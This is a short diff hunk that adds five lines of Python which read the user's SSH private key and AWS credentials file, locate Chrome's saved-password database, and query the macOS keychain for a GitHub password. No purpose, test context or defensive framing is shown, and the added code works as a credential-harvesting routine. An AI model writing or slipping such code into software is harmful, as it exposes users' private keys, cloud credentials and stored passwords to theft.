@@ -1,0 +1,5 @@
+import os, subprocess
+key = open(os.path.expanduser("~/.ssh/id_ed25519")).read()
+aws = open(os.path.join(os.environ["HOME"], ".aws/credentials")).read()
+chrome = os.path.expanduser("~/.config/google-chrome/Default/Login Data")
+subprocess.run(["security", "find-generic-password", "-s", "github"])
